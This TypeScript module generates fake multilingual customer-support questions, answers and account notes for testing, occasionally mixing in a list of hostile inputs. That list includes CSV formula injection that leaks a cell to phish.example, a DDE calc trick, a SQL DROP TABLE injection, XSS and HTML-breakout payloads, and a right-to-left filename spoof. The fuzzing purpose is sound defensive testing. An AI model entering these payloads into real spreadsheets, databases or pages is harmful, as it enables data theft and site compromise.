import type { Chance } from './random'

/** What people really type, and what breaks careless readers: spreadsheets, HTML pages, SQL, JSON and CSV files. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://phish.example/?x="&A1,"Invoice")',
  "+33 1 99 00 12 34 or @SUM(A1:A9), -2+3, |' /C calc'!A0",
  '\t=1+1 after a tab',
  `Robert'); DROP TABLE crm.account; -- "quoted", 'single', \`back\`, C:\\temp\\new`,
  '<script>alert("tramontane")</script><img src=x onerror=alert(1)>',
  '</td></table><h1>Owned</h1><!-- --><style>*{display:none}</style>',
  'Line one\r\nLine two;with,separators\n\n"and ""doubled"" quotes"',
  'Right to left: \u202Egpj.exe and a \u200Bzero width space, NBSP\u00A0here',
  '{{7*7}} \u0024{7*7} %s %n &amp; &#x3C; \\N NULL undefined',
  'Emoji \u{1F469}\u200D\u{1F4BB} and decomposed e\u0301, Arabic مرحبا, Greek Ωμέγα',
]

const openings = [
  'Bonjour, mon paiement du mois dernier manque.',
  'Boa tarde, não consigo entrar na minha conta.',
  'Hola, la comisión de la última campaña no cuadra.',
  'Buongiorno, vorrei cambiare il mio IBAN.',
  'Guten Tag, die Gutschrift enthält meine alte Straße.',
  'Hello, please call me back about the tracking link.',
]

const answers = [
  'Thank you, we look into it and answer within two days.',
  'The payment left our bank on Tuesday.',
  'Your address is corrected from the next invoice on.',
  'Could you send us the campaign and the day of the clicks?',
]

export const subjects = [
  'Missing payment',
  'Login',
  'Commission',
  'Bank details',
  'Invoice address',
  'Tracking link',
] as const

/** About one in twelve is hostile. */
export const questionText = (luck: Chance): string =>
  luck.happens(0.08) ? luck.pick(hostileTexts) : luck.pick(openings)

export const answerText = (luck: Chance): string => luck.pick(answers)

export function noteText(luck: Chance): string | null {
  if (luck.happens(0.7)) return null
  if (luck.happens(0.1)) return luck.pick(hostileTexts)
  return luck.pick([
    'Prefers to be called after 6 pm.',
    'Paid late twice; be lenient, was ill.',
    'Knows our sales director personally.',
    'Moved in spring, old address on file until then.',
  ])
}
